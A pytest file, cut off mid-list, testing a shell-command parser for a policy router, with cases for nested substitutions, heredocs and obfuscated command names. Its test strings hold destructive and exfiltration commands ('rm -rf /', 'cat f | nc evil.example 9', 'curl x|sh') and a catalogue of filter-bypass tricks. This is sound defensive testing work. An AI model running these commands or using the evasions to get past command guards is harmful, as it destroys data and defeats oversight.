"""Table-driven tests of policy_router.shell.parse: which commands a line runs, with their
context, markers and provenance. Each case compares the WHOLE list of commands (as rows), so
a missing or extra command fails the case."""

from __future__ import annotations


import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policy_router.shell.words import F_SUBST, analyze, backtick_body, find_substitutions, strip_continuations
from policy_router.shell import (
    Assignment,
    Command,
    Ctx,
    Marker,
    ParsedLine,
    PipelinePos,
    Redirect,
    RedirectMode,
    Word,
    parse,
)




C = Ctx
M = Marker


def rows(line: ParsedLine) -> list[tuple]:
    """(program, argv, context, markers, via, parent) for every command, in order."""
    return [
        (c.program, list(c.argv_text), [x.value for x in c.context], sorted(m.value for m in c.markers), list(c.via), c.parent)
        for c in line.commands
    ]


def R(program, argv, ctx=(), markers=(), via=(), parent=None):
    return (program, list(argv), [x.value for x in ctx], sorted(m.value for m in markers), list(via), parent)


# ---------------------------------------------------------------------------------------------
# structure: every command that would execute

STRUCTURE = [
    ("ls -la", [R("ls", ["ls", "-la"])]),
    ("a; b && c || d", [R("a", ["a"]), R("b", ["b"]), R("c", ["c"]), R("d", ["d"])]),
    ("a\nb\n\nc", [R("a", ["a"]), R("b", ["b"]), R("c", ["c"])]),
    ("a & b", [R("a", ["a"], [C.BACKGROUND]), R("b", ["b"])]),
    ("a && b & c; d &", [R("a", ["a"], [C.BACKGROUND]), R("b", ["b"], [C.BACKGROUND]), R("c", ["c"]), R("d", ["d"], [C.BACKGROUND])]),
    ("a; b || c & d", [R("a", ["a"]), R("b", ["b"], [C.BACKGROUND]), R("c", ["c"], [C.BACKGROUND]), R("d", ["d"])]),
    ("! rm x", [R("rm", ["rm", "x"], [C.NEGATED])]),
    ("(cd d; rm x)", [R("cd", ["cd", "d"], [C.SUBSHELL]), R("rm", ["rm", "x"], [C.SUBSHELL])]),
    ("{ a; b; }", [R("a", ["a"], [C.GROUP]), R("b", ["b"], [C.GROUP])]),
    ("echo $(rm -rf /)", [R("echo", ["echo", "$(rm -rf /)"]), R("rm", ["rm", "-rf", "/"], [C.COMMAND_SUBSTITUTION])]),
    ("echo `id`", [R("echo", ["echo", "`id`"]), R("id", ["id"], [C.BACKTICK])]),
    ("diff <(ls a) >(tee b)", [
        R("diff", ["diff", "<(ls a)", ">(tee b)"]),
        R("ls", ["ls", "a"], [C.PROCESS_SUBSTITUTION_IN]),
        R("tee", ["tee", "b"], [C.PROCESS_SUBSTITUTION_OUT]),
    ]),
    ("echo x > $(mktemp)", [R("echo", ["echo", "x"]), R("mktemp", ["mktemp"], [C.REDIRECT, C.COMMAND_SUBSTITUTION])]),
    ("X=$(id) make", [R("make", ["make"]), R("id", ["id"], [C.ASSIGNMENT, C.COMMAND_SUBSTITUTION])]),
    ("x=$(rm a)", [R("", []), R("rm", ["rm", "a"], [C.ASSIGNMENT, C.COMMAND_SUBSTITUTION])]),
    ("export P=$(pwd)", [R("export", ["export", "P=$(pwd)"]), R("pwd", ["pwd"], [C.ASSIGNMENT, C.COMMAND_SUBSTITUTION])]),
    ("if a; then b; elif c; then d; else e; fi", [
        R("a", ["a"], [C.IF]), R("b", ["b"], [C.IF]), R("c", ["c"], [C.IF]), R("d", ["d"], [C.IF]), R("e", ["e"], [C.IF]),
    ]),
    ("for f in $(ls); do rm $f; done", [
        R("ls", ["ls"], [C.LOOP, C.COMMAND_SUBSTITUTION]),
        R("rm", ["rm", "$f"], [C.LOOP]),
    ]),
    ("while a; do b; done", [R("a", ["a"], [C.LOOP]), R("b", ["b"], [C.LOOP])]),
    ("until a; do b; done", [R("a", ["a"], [C.LOOP]), R("b", ["b"], [C.LOOP])]),
    ("select x in a b; do rm $x; done", [R("rm", ["rm", "$x"], [C.LOOP])]),
    ("for ((i=0;i<3;i++)); do echo $i; done", [R("echo", ["echo", "$i"], [C.LOOP])]),
    ("case $x in a) rm a;; *) ls;; esac", [R("rm", ["rm", "a"], [C.CASE]), R("ls", ["ls"], [C.CASE])]),
    ("f() { rm x; }; f", [R("rm", ["rm", "x"], [C.FUNCTION, C.GROUP]), R("f", ["f"], markers=[M.FUNCTION_CALL])]),
    ("function g { id; }; g a", [R("id", ["id"], [C.FUNCTION, C.GROUP]), R("g", ["g", "a"], markers=[M.FUNCTION_CALL])]),
    ("echo ${x:-$(cmd)}", [R("echo", ["echo", "${x:-$(cmd)}"]), R("cmd", ["cmd"], [C.PARAMETER, C.COMMAND_SUBSTITUTION])]),
    ("echo $((1 + $(id -u)))", [R("echo", ["echo", "$((1 + $(id -u)))"]), R("id", ["id", "-u"], [C.COMMAND_SUBSTITUTION])]),
    ("[[ -f x ]] && rm x", [R("[[", ["[[", "-f", "x", "]]"]), R("rm", ["rm", "x"])]),
    ("time ls -la", [
        R("time", ["time", "ls", "-la"], markers=[M.WRAPPER]),
        R("ls", ["ls", "-la"], [C.WRAPPED], via=["time"], parent=0),
    ]),
    ("a=(x y); echo ${a[0]}", [R("", []), R("echo", ["echo", "${a[0]}"])]),
    ("", []),
    ("   ", []),
    ("# only a comment", []),
    ("echo hi # rm -rf /", [R("echo", ["echo", "hi"])]),
    ("declare -x A=1; typeset B; local C; readonly D; alias ll='ls -l'", [
        R("declare", ["declare", "-x", "A=1"]),
        R("typeset", ["typeset", "B"]),
        R("local", ["local", "C"]),
        R("readonly", ["readonly", "D"]),
        R("alias", ["alias", "ll=ls -l"]),
        R("ls", ["ls", "-l"], [C.EVAL], via=["alias"], parent=4),
    ]),
    ("echo $(echo $(echo $(id)))", [
        R("echo", ["echo", "$(echo $(echo $(id)))"]),
        R("echo", ["echo", "$(echo $(id))"], [C.COMMAND_SUBSTITUTION]),
        R("echo", ["echo", "$(id)"], [C.COMMAND_SUBSTITUTION] * 2),
        R("id", ["id"], [C.COMMAND_SUBSTITUTION] * 3),
    ]),
]


@pytest.mark.parametrize("cmd,expected", STRUCTURE, ids=[c for c, _ in STRUCTURE])
def test_structure(cmd: str, expected: list[tuple]) -> None:
    assert rows(parse(cmd)) == expected


# ---------------------------------------------------------------------------------------------
# the measured bashlex gaps (docs: notes/parsers.md) — each must still expose every command

BASHLEX_FAILS = [
    ("echo $(cd d && pwd)", [R("echo", ["echo", "$(cd d && pwd)"]), R("cd", ["cd", "d"], [C.COMMAND_SUBSTITUTION]), R("pwd", ["pwd"], [C.COMMAND_SUBSTITUTION])]),
    ("diff <(a || b) c", [R("diff", ["diff", "<(a || b)", "c"]), R("a", ["a"], [C.PROCESS_SUBSTITUTION_IN]), R("b", ["b"], [C.PROCESS_SUBSTITUTION_IN])]),
    ("x=$(a; b;)", [R("", []), R("a", ["a"], [C.ASSIGNMENT, C.COMMAND_SUBSTITUTION]), R("b", ["b"], [C.ASSIGNMENT, C.COMMAND_SUBSTITUTION])]),
    ("coproc sleep 1", None),  # only checked for "never raises / parsed" below
]


@pytest.mark.parametrize("cmd,expected", [c for c in BASHLEX_FAILS if c[1] is not None], ids=[c for c, e in BASHLEX_FAILS if e is not None])
def test_bashlex_failures_fall_back_to_tree_sitter(cmd: str, expected: list[tuple]) -> None:
    line = parse(cmd)
    assert line.parsed is True
    assert line.parser == "tree-sitter"
    assert [e.parser for e in line.errors] == ["bashlex"]
    assert rows(line) == expected
    assert {c.source for c in line.commands} == {"tree-sitter"}


FAIL_OPEN = [
    # $( ) / backticks in an unquoted heredoc body are run by bash
    ("cat <<EOF\nhi $(rm -rf /) `id`\nEOF", [
        R("cat", ["cat"]),
        R("rm", ["rm", "-rf", "/"], [C.HEREDOC, C.COMMAND_SUBSTITUTION]),
        R("id", ["id"], [C.HEREDOC, C.BACKTICK]),
    ]),
    # ${x:-$(cmd)}: bashlex keeps it as an opaque parameter
    ("echo ${HOME:-$(rm -rf /)}", [
        R("echo", ["echo", "${HOME:-$(rm -rf /)}"]),
        R("rm", ["rm", "-rf", "/"], [C.PARAMETER, C.COMMAND_SUBSTITUTION]),
    ]),
    # $'\x72m' is rm
    ("$'\\x72m' -rf /", [R("rm", ["rm", "-rf", "/"], markers=[M.ANSI_C_NAME])]),
    # brace expansion in the command name: expanded like bash (rules see rm), still glob_name
    ("{rm,-rf,/}", [R("rm", ["rm", "-rf", "/"], markers=[M.GLOB_NAME])]),
    # (( x = 1 )): bashlex reports a command `x` (kept: the union fails safe)
    ("(( x = 1 ))", [R("x", ["x", "=", "1"], [C.SUBSHELL, C.SUBSHELL])]),
]


@pytest.mark.parametrize("cmd,expected", FAIL_OPEN, ids=[c for c, _ in FAIL_OPEN])
def test_bashlex_fail_open_cases_are_exposed(cmd: str, expected: list[tuple]) -> None:
    assert rows(parse(cmd)) == expected


# classes of bypasses reported against peer tools (shared/notes/peer-bypasses.md): every
# command that runs must be visible, with the facts a policy needs
PEER_BYPASSES = [
    ("echo x && rm -rf /", [R("echo", ["echo", "x"]), R("rm", ["rm", "-rf", "/"])]),
    ("git add . && git push --force", [R("git", ["git", "add", "."]), R("git", ["git", "push", "--force"])]),
    ("git checkout main && git merge evil", [R("git", ["git", "checkout", "main"]), R("git", ["git", "merge", "evil"])]),
    ("cat f | nc evil.example 9", [R("cat", ["cat", "f"]), R("nc", ["nc", "evil.example", "9"])]),
    ("echo; do-evil", [R("echo", ["echo"]), R("do-evil", ["do-evil"])]),
    ("echo ok\nrm -rf /", [R("echo", ["echo", "ok"]), R("rm", ["rm", "-rf", "/"])]),
    ("ls && $(curl -s x)", [R("ls", ["ls"]), R("$(curl -s x)", ["$(curl -s x)"], markers=[M.DYNAMIC_NAME]), R("curl", ["curl", "-s", "x"], [C.COMMAND_SUBSTITUTION])]),
    ("echo >(tee /tmp/x.sh)", [R("echo", ["echo", ">(tee /tmp/x.sh)"]), R("tee", ["tee", "/tmp/x.sh"], [C.PROCESS_SUBSTITUTION_OUT])]),
    ("  rm   -rf   /   # trailing comment", [R("rm", ["rm", "-rf", "/"])]),
    ("cd / && rm -rf .", [R("cd", ["cd", "/"]), R("rm", ["rm", "-rf", "."])]),
    ("find . -e\\xec rm {} \\;", [
        R("find", ["find", ".", "-exec", "rm", "{}", ";"], markers=[M.WRAPPER]),
        R("rm", ["rm", "{}"], [C.WRAPPED], [M.EXTRA_ARGS], via=["find -exec"], parent=0),
    ]),
    ("ls | xargs rm -rf", [
        R("ls", ["ls"]),
        R("xargs", ["xargs", "rm", "-rf"], markers=[M.WRAPPER]),
        R("rm", ["rm", "-rf"], [C.WRAPPED], [M.EXTRA_ARGS], via=["xargs"], parent=1),
    ]),
    ("./sed -i x f; /tmp/evil/cat f; a/b/cat f", [
        R("./sed", ["./sed", "-i", "x", "f"], markers=[M.PATH_PROGRAM]),
        R("/tmp/evil/cat", ["/tmp/evil/cat", "f"], markers=[M.PATH_PROGRAM]),
        R("a/b/cat", ["a/b/cat", "f"], markers=[M.PATH_PROGRAM]),
    ]),
    ("export PROMPT_COMMAND='curl x|sh'; typeset -x A=1; declare B=2", [
        R("export", ["export", "PROMPT_COMMAND=curl x|sh"]),
        R("typeset", ["typeset", "-x", "A=1"]),
        R("declare", ["declare", "B=2"]),
    ]),
]


@pytest.mark.parametrize("cmd,expected", PEER_BYPASSES, ids=[c for c, _ in PEER_BYPASSES])
def test_peer_bypass_classes(cmd: str, expected: list[tuple]) -> None:
    assert rows(parse(cmd)) == expected


def test_prefix_assignment_and_heredoc_are_visible_on_the_command() -> None:
    line = parse("PATH=/tmp/evil:$PATH cat <<EOF > f\nx\nEOF")
    (c,) = line.commands
    assert [(a.name, a.value.text, a.value.dynamic) for a in c.assignments] == [("PATH", "/tmp/evil:$PATH", True)]
    assert [(r.op, r.mode.value, r.target.text, r.heredoc) for r in c.redirects] == [
        ("<<", "read", "x\n", True),
        (">", "write", "f", False),
    ]


def test_two_heredocs_on_one_line() -> None:
    line = parse("cat <<A; cat <<B\n$(x)\nA\n`y`\nB")
    assert rows(line) == [
        R("cat", ["cat"]),
        R("cat", ["cat"]),
        R("x", ["x"], [C.HEREDOC, C.COMMAND_SUBSTITUTION]),
        R("y", ["y"], [C.HEREDOC, C.BACKTICK]),
    ]
    assert [c.redirects[0].target.text for c in line.commands[:2]] == ["$(x)\n", "`y`\n"]


def test_unparseable_substitution_in_heredoc_is_hidden_substitution() -> None:
    assert rows(parse("cat <<EOF\n$(if)\nEOF")) == [R("cat", ["cat"], markers=[M.HIDDEN_SUBSTITUTION])]


def test_redirect_only_and_assignment_only_commands() -> None:
    assert rows(parse("> f; x=1 y=2; echo $(<file)")) == [
        R("", []),
        R("", []),
        R("echo", ["echo", "$(<file)"]),
        R("", [], [C.COMMAND_SUBSTITUTION]),
    ]


def test_parse_is_thread_safe() -> None:
    from concurrent.futures import ThreadPoolExecutor

    cmds = [c for c, _ in STRUCTURE + PEER_BYPASSES + FAIL_OPEN] * 5
    expected = [parse(c) for c in cmds]
    with ThreadPoolExecutor(max_workers=8) as ex:
        got = list(ex.map(parse, cmds))
    assert got == expected


QUOTED_HEREDOCS = ["cat <<'EOF' > f\n$(not run)\nEOF", 'cat <<"EOF"\nx\nEOF', "cat <<\\EOF\nx\nEOF", "cat <<-'E'\n\tx\n\tE", "cat <<E'O'F\nx\nEOF"]


@pytest.mark.parametrize("cmd", QUOTED_HEREDOCS)
def test_quoted_heredoc_delimiters_are_parsed_by_bashlex_too(cmd: str) -> None:
    """bashlex 0.18 rejects quoted delimiters (issue #99); the front hands it the unquoted
    delimiter padded to the same length, so both parsers see the line."""
    line = parse(cmd)
    bashlex_errors = [e for e in line.errors if e.parser == "bashlex"]
    assert (line.parser, line.parsed, bashlex_errors, rows(line)) == ("bashlex", True, [], [R("cat", ["cat"])])
    (r, *_) = line.commands[0].redirects
    assert (r.heredoc, r.quoted, r.target.dynamic) == (True, True, False)


def test_quoted_heredoc_body_is_data() -> None:
    line = parse("cat <<'EOF' > f\n$(rm -rf /)\nEOF")
    assert rows(line) == [R("cat", ["cat"])]
    assert line.commands[0].redirects == (
        Redirect("<<", RedirectMode.READ, Word("$(rm -rf /)\n", "$(rm -rf /)\n", (16, 28), False), (4, 11), None, True, True),
        Redirect(">", RedirectMode.WRITE, Word("f", "f", (14, 15), False), (12, 15)),
    )


# ---------------------------------------------------------------------------------------------
# fail-closed markers on the command name

NAMES = [
    ("$CMD x", "$CMD", [M.DYNAMIC_NAME]),
    ("${IFS}rm x", "${IFS}rm", [M.DYNAMIC_NAME]),
    ("r$@m x", "r$@m", [M.DYNAMIC_NAME]),
    ("$(echo rm) x", "$(echo rm)", [M.DYNAMIC_NAME]),
    ("`echo rm` x", "`echo rm`", [M.DYNAMIC_NAME]),
    ("$((1)) x", "$((1))", [M.DYNAMIC_NAME]),
    ("r*m x", "r*m", [M.GLOB_NAME]),
    ("/bin/r? x", "r?", [M.GLOB_NAME]),
    ("[r]m x", "[r]m", [M.GLOB_NAME]),
    ("{r,}m x", "rm", [M.GLOB_NAME]),
    ("{1..3} x", "1", [M.GLOB_NAME]),
    ("{rm,-rf,~}", "rm", [M.GLOB_NAME]),
    ("$'rm' x", "rm", [M.ANSI_C_NAME]),
    ("$'\\162m' x", "rm", [M.ANSI_C_NAME]),
    ("$'\\u0072m' x", "rm", [M.ANSI_C_NAME]),
    ("'r''m' x", "rm", []),
    ('"rm" x', "rm", []),
    ("\\rm x", "rm", []),
    ("r\\m x", "rm", []),
    ('$"rm" x', "rm", []),
    ("/usr/bin/rm x", "rm", []),
    ("/bin/rm x", "rm", []),
    ("/usr/local/sbin/rm x", "rm", []),
    ("/usr/bin/../bin/rm x", "rm", []),
    ("./rm x", "./rm", [M.PATH_PROGRAM]),
    ("bin/cat x", "bin/cat", [M.PATH_PROGRAM]),
    ("/tmp/x/cat x", "/tmp/x/cat", [M.PATH_PROGRAM]),
    ("~/bin/ls x", "~/bin/ls", [M.PATH_PROGRAM]),
    ("[ -f x ]", "[", []),
]


@pytest.mark.parametrize("cmd,program,markers", NAMES, ids=[c for c, _, _ in NAMES])
def test_command_name_markers(cmd: str, program: str, markers: list[Marker]) -> None:
    line = parse(cmd)
    first = line.commands[0]
    assert (first.program, sorted(first.markers)) == (program, sorted(markers))


# ---------------------------------------------------------------------------------------------
# whole-object checks: words, assignments, redirects, pipelines, spans, sources


def test_whole_command_objects_for_a_pipeline_with_redirects() -> None:
    line = parse('FOO=1 grep -r "a b" src 2>/dev/null | sort >> out.txt')
    assert line == ParsedLine(
        source='FOO=1 grep -r "a b" src 2>/dev/null | sort >> out.txt',
        commands=(
            Command(
                argv=(
                    Word("grep", "grep", (6, 10)),
                    Word("-r", "-r", (11, 13)),
                    Word("a b", '"a b"', (14, 19)),
                    Word("src", "src", (20, 23)),
                ),
                program="grep",
                span=(0, 35),
                assignments=(Assignment("FOO", Word("1", "1", (4, 5)), (0, 5)),),
                redirects=(Redirect(">", RedirectMode.WRITE, Word("/dev/null", "/dev/null", (26, 35)), (24, 35), fd=2),),
                pipeline=PipelinePos(0, 0, 2),
                source="both",
            ),
            Command(
                argv=(Word("sort", "sort", (38, 42)),),
                program="sort",
                span=(38, 53),
                redirects=(Redirect(">>", RedirectMode.APPEND, Word("out.txt", "out.txt", (46, 53)), (43, 53)),),
                pipeline=PipelinePos(0, 1, 2),
                source="both",
            ),
        ),
    )


REDIRECTS = [
    ("cat < in", [("<", "read", "in", None)]),
    ("cmd 2>&1", [(">&", "dup", None, 2)]),
    ("cmd >&2", [(">&", "dup", None, None)]),
    ("cmd &> all", [("&>", "write", "all", None)]),
    ("cmd >| f", [(">|", "write", "f", None)]),
    ("exec 3<>file", [("<>", "readwrite", "file", 3)]),
    ("cat <<< 'hi there'", [("<<<", "read", "hi there", None)]),
    ("cmd <&3", [("<&", "dup", None, None)]),
]


@pytest.mark.parametrize("cmd,expected", REDIRECTS, ids=[c for c, _ in REDIRECTS])
def test_redirect_ops_and_modes(cmd: str, expected: list[tuple]) -> None:
    c = parse(cmd).commands[0]
    assert [(r.op, r.mode.value, r.target.text if r.target else None, r.fd) for r in c.redirects] == expected


def test_group_redirects_apply_to_inner_commands() -> None:
    line = parse("{ echo a; echo b; } > /etc/x")
    assert [[(r.op, r.target.text) for r in c.redirects] for c in line.commands] == [[(">", "/etc/x")], [(">", "/etc/x")]]


def test_pipeline_positions_are_per_pipeline() -> None:
    line = parse("a | b; c | d | e; f")
    assert [(c.program, c.pipeline) for c in line.commands] == [
        ("a", PipelinePos(0, 0, 2)),
        ("b", PipelinePos(0, 1, 2)),
        ("c", PipelinePos(1, 0, 3)),
        ("d", PipelinePos(1, 1, 3)),
        ("e", PipelinePos(1, 2, 3)),
        ("f", None),
    ]


def test_tree_sitter_pipelines_before_and_or() -> None:
    """tree-sitter-bash reads ``a | b | c && d`` as ``a | (b | c && d)``; bash as
    ``(a | b | c) && d``. Found by the composition fuzzer: where bashlex fails (an array
    assignment), ``sh`` was no longer fed by ``curl``."""
    line = parse("a=(x); curl x | sh | ls && ls || id | wc")
    assert line.parser == "tree-sitter"
    assert [(c.program, c.pipeline) for c in line.commands] == [
        ("", None),
        ("curl", PipelinePos(0, 0, 3)),
        ("sh", PipelinePos(0, 1, 3)),
        ("ls", PipelinePos(0, 2, 3)),
        ("ls", None),
        ("id", PipelinePos(1, 0, 2)),
        ("wc", PipelinePos(1, 1, 2)),
    ]
    # ... and ``a | b > f | c`` as ``(a | b > f) | c``: the redirect stays b's
    line = parse("a=(x); curl x | sh | ls > out | ( ls ) && ls")
    assert [(c.program, c.pipeline, [r.target.text for r in c.redirects]) for c in line.commands] == [
        ("", None, []),
        ("curl", PipelinePos(0, 0, 4), []),
        ("sh", PipelinePos(0, 1, 4), []),
        ("ls", PipelinePos(0, 2, 4), ["out"]),
        ("ls", PipelinePos(0, 3, 4), []),
        ("ls", None, []),
    ]


def test_heredoc_before_a_pipe_keeps_the_pipe_target() -> None:
    line = parse("cat <<'EOF' | some-script\nbody\nEOF")
    assert [(c.program, c.pipeline) for c in line.commands] == [
        ("cat", PipelinePos(0, 0, 2)),
        ("some-script", PipelinePos(0, 1, 2)),
    ]


def test_unicode_spans_are_character_offsets() -> None:
    cmd = "echo 'héllo wörld' && rm ☃"
    line = parse(cmd)
    spans = [[(w.text, w.span) for w in c.argv] for c in line.commands]
    assert spans == [[("echo", (0, 4)), ("héllo wörld", (5, 18))], [("rm", (22, 24)), ("☃", (25, 26))]]
    for c in line.commands:
        for w in c.argv:
            assert cmd[w.span[0] : w.span[1]] == w.raw


def test_unicode_spans_when_only_tree_sitter_parses() -> None:
    cmd = "[[ é == é ]] && rm ☃ $(echo ü)"
    line = parse(cmd)
    for c in line.commands:
        for w in c.argv:
            assert cmd[w.span[0] : w.span[1]] == w.raw
    assert [c.program for c in line.commands] == ["[[", "rm", "echo"]


def test_word_dynamic_flags() -> None:
    c = parse("echo plain 'q $x' $x \"$y\" *.py ~/f {a,b} a\\*b").commands[0]
    assert [(w.text, w.dynamic) for w in c.argv] == [
        ("echo", False),
        ("plain", False),
        ("q $x", False),
        ("$x", True),
        ("$y", True),
        ("*.py", True),
        ("~/f", True),
        ("a", False),
        ("b", False),
        ("a*b", False),
    ]


def test_sources_both_and_single() -> None:
    assert [c.source for c in parse("sort < in.txt | wc -l").commands] == ["both", "both"]
    # a plain line (static words, possibly joined by | && || ; &) is not cross-checked
    assert [c.source for c in parse("git commit -m 'fix: a b'").commands] == ["bashlex"]
    assert [c.source for c in parse("ls *.py | wc -l && cd ~").commands] == ["bashlex"] * 3
    assert [c.source for c in parse("[[ -n x ]] && ls").commands] == ["tree-sitter", "tree-sitter"]
    # tree-sitter rejects brace expansion; bashlex alone reports it
    line = parse("{rm,-rf,/}")
    assert [c.source for c in line.commands] == ["bashlex"]
    assert line.parsed is True and [e.parser for e in line.errors] == ["tree-sitter"]


# ---------------------------------------------------------------------------------------------
# failures and limits


def test_unparseable_line_is_not_parsed_and_still_lists_commands() -> None:
    line = parse("echo ok; if then fi; rm -rf / ((")
    assert line.parsed is False
    assert Marker.PARSE_ERROR in line.markers
    assert {e.parser for e in line.errors} == {"bashlex", "tree-sitter"}
    assert all(e.position is not None for e in line.errors if e.parser == "tree-sitter")
    assert all(Marker.PARSE_ERROR in c.markers for c in line.commands)
    assert "echo" in [c.program for c in line.commands]


def test_unbalanced_quote_is_a_parse_error() -> None:
    line = parse("echo 'unterminated")
    assert (line.parsed, Marker.PARSE_ERROR in line.markers) == (False, True)


def test_too_large_skips_bashlex_and_is_never_parsed() -> None:
    cmd = "echo " + "a" * 60 + "; rm x"  # 71 chars: over max_chars, under 2 * max_chars
    line = parse(cmd, max_chars=50)
    assert line.parsed is False
    assert line.markers == frozenset({Marker.TOO_LARGE, Marker.PARSE_ERROR})
    assert [e.parser for e in line.errors] == ["policy-router"]
    assert [(c.program, c.source, Marker.TOO_LARGE in c.markers) for c in line.commands] == [
        ("echo", "tree-sitter", True),
        ("rm", "tree-sitter", True),
    ]


def test_far_too_large_is_not_given_to_tree_sitter_either() -> None:
    line = parse("echo a; " * 20, max_chars=50)
    assert (line.parsed, line.markers, line.commands) == (False, frozenset({Marker.TOO_LARGE, Marker.PARSE_ERROR}), ())


@pytest.mark.parametrize("n", [65, 100, 300, 2000])
def test_too_deep_substitutions(n: int) -> None:
    line = parse("echo " + "$(" * n + "id" + ")" * n)
    assert line.parsed is False
    assert Marker.TOO_DEEP in line.markers
    assert line.commands and all(Marker.TOO_DEEP in c.markers for c in line.commands)


@pytest.mark.parametrize("n", [65, 1000])
def test_too_deep_subshells(n: int) -> None:
    line = parse("(" * n + "rm x" + ")" * n)
    assert (line.parsed, Marker.TOO_DEEP in line.markers) == (False, True)


def test_depth_within_the_cap_is_fine() -> None:
    line = parse("echo " + "$(" * 10 + "id" + ")" * 10)
    assert line.parsed is True and not line.markers
    assert line.commands[-1].program == "id"
    assert line.commands[-1].context == (Ctx.COMMAND_SUBSTITUTION,) * 10


def test_max_depth_is_configurable() -> None:
    line = parse("echo $(echo $(echo $(id)))", max_depth=2)
    assert Marker.TOO_DEEP in line.markers


def test_never_raises_on_nul_and_control_characters() -> None:
    for cmd in ["\x00", "echo \x00 x", "\x1b[31m", "rm\r\n-rf", "\ud800", "$'\\x00'", "`", "$(", "<<", "<<EOF", "'"]:
        assert isinstance(parse(cmd), ParsedLine)


def test_astral_characters_do_not_crash_tree_sitter() -> None:
    """tree-sitter-bash 0.25.1 segfaults intermittently on "{" + U+E7DF4 (found by hypothesis);
    the front replaces non-BMP characters for tree-sitter, keeping character offsets."""
    for _ in range(3000):
        line = parse("{\U000e7df4")
    assert [(c.program, c.argv[0].span) for c in line.commands] == [("{\U000e7df4", (0, 2))]
    line = parse("echo \U0001F600 $(rm \U0001F600) && ls")
    assert [(c.program, [(w.text, w.span) for w in c.argv]) for c in line.commands] == [
        ("echo", [("echo", (0, 4)), ("\U0001F600", (5, 6)), ("$(rm \U0001F600)", (7, 14))]),
        ("rm", [("rm", (9, 11)), ("\U0001F600", (12, 13))]),
        ("ls", [("ls", (18, 20))]),
    ]


def test_non_str_input_is_coerced() -> None:
    assert [c.program for c in parse(b"ls -la").commands] == ["ls"]  # type: ignore[arg-type]


# ---------------------------------------------------------------------------------------------
# text bash reads differently from the source: escapes inside `...`, backslash-newline

BT = [C.BACKTICK]

BACKTICK_ESCAPES = [
    # inside `...` a backslash before ` $ \ is removed first: \` nests a substitution
    ("echo `echo \\`rm -rf ~\\``", [
        R("echo", ["echo", "`echo \\`rm -rf ~\\``"]),
        R("echo", ["echo", "`rm -rf ~`"], BT),
        R("rm", ["rm", "-rf", "~"], BT * 2),
    ]),
    ("echo `echo \\`echo \\\\\\`rm -rf ~\\\\\\`\\``", [
        R("echo", ["echo", "`echo \\`echo \\\\\\`rm -rf ~\\\\\\`\\``"]),
        R("echo", ["echo", "`echo \\`rm -rf ~\\``"], BT),
        R("echo", ["echo", "`rm -rf ~`"], BT * 2),
        R("rm", ["rm", "-rf", "~"], BT * 3),
    ]),
    ("echo \"`echo \\`rm -rf ~\\``\"", [
        R("echo", ["echo", "`echo \\`rm -rf ~\\``"]),
        R("echo", ["echo", "`rm -rf ~`"], BT),
        R("rm", ["rm", "-rf", "~"], BT * 2),
    ]),
    ("x=`echo \\`rm -rf ~\\``", [
        R("", []),
        R("echo", ["echo", "`rm -rf ~`"], [C.ASSIGNMENT, C.BACKTICK]),
        R("rm", ["rm", "-rf", "~"], [C.ASSIGNMENT, C.BACKTICK, C.BACKTICK]),
    ]),
    ("cat <<EOF\n`echo \\`rm -rf ~\\``\nEOF", [
        R("cat", ["cat"]),
        R("echo", ["echo", "`rm -rf ~`"], [C.HEREDOC, C.BACKTICK]),
        R("rm", ["rm", "-rf", "~"], [C.HEREDOC, C.BACKTICK, C.BACKTICK]),
    ]),
    # `...` that neither parser's tree shows (in ${x:-...}): the fronts find it in the word
    ("echo ${x:-`echo \\`rm -rf ~\\``}", [
        R("echo", ["echo", "${x:-`echo \\`rm -rf ~\\``}"]),
        R("echo", ["echo", "`rm -rf ~`"], [C.PARAMETER, C.BACKTICK]),
        R("rm", ["rm", "-rf", "~"], [C.PARAMETER, C.BACKTICK, C.BACKTICK]),
    ]),
    ("cat <<EOF\n${x:-`echo \\`rm -rf ~\\``}\nEOF", [
        R("cat", ["cat"]),
        R("echo", ["echo", "`rm -rf ~`"], [C.HEREDOC, C.PARAMETER, C.BACKTICK]),
        R("rm", ["rm", "-rf", "~"], [C.HEREDOC, C.PARAMETER, C.BACKTICK, C.BACKTICK]),
    ]),
    # look-alikes: escaped backticks outside a substitution (or in a heredoc) are literal
    ("echo `echo \\`id\\` ok`", [R("echo", ["echo", "`echo \\`id\\` ok`"]), R("echo", ["echo", "`id`", "ok"], BT), R("id", ["id"], BT * 2)]),
    ("echo \\`rm -rf ~\\`", [R("echo", ["echo", "`rm", "-rf", "~`"])]),
    ("cat <<EOF\n\\`rm -rf ~\\`\nEOF", [R("cat", ["cat"])]),
    ("echo `date`", [R("echo", ["echo", "`date`"]), R("date", ["date"], BT)]),
]


@pytest.mark.parametrize("cmd,expected", BACKTICK_ESCAPES, ids=[c for c, _ in BACKTICK_ESCAPES])
def test_backtick_bodies_are_parsed_after_their_escapes(cmd: str, expected: list[tuple]) -> None:
    line = parse(cmd)
    assert (line.parsed, rows(line)) == (True, expected)


def test_escaped_dollar_in_backticks_is_an_expansion() -> None:
    """``\\$HOME`` inside `...` is ``$HOME``: the word is dynamic; its span covers the source
    text ``\\$HOME`` while raw is the text bash parses."""
    line = parse("echo `rm -rf \\$HOME`")
    inner = line.commands[1]
    assert [(w.text, w.raw, w.span, w.dynamic) for w in inner.argv] == [
        ("rm", "rm", (6, 8), False),
        ("-rf", "-rf", (9, 12), False),
        ("$HOME", "$HOME", (13, 19), True),
    ]
    assert line.source[13:19] == "\\$HOME"


CONTINUATIONS = [
    # bash deletes backslash-newline before reading words: $\<newline>( is $(
    ("echo \"$\\\n(rm -rf ~)\"", [R("echo", ["echo", "$(rm -rf ~)"]), R("rm", ["rm", "-rf", "~"], [C.COMMAND_SUBSTITUTION])]),
    ("cat <<EOF\n$\\\n(rm -rf ~)\nEOF", [R("cat", ["cat"]), R("rm", ["rm", "-rf", "~"], [C.HEREDOC, C.COMMAND_SUBSTITUTION])]),
    ("cat <<EOF\n$(\\\nrm -rf ~)\nEOF", [R("cat", ["cat"]), R("rm", ["rm", "-rf", "~"], [C.HEREDOC, C.COMMAND_SUBSTITUTION])]),
    ("echo ${x:-$\\\n(rm -rf ~)}", [R("echo", ["echo", "${x:-$(rm -rf ~)}"]), R("rm", ["rm", "-rf", "~"], [C.PARAMETER, C.COMMAND_SUBSTITUTION])]),
    ("echo $\\\n{x:-$(rm -rf ~)}", [R("echo", ["echo", "${x:-$(rm -rf ~)}"]), R("rm", ["rm", "-rf", "~"], [C.COMMAND_SUBSTITUTION])]),
    ("r\\\nm -rf ~", [R("rm", ["rm", "-rf", "~"])]),
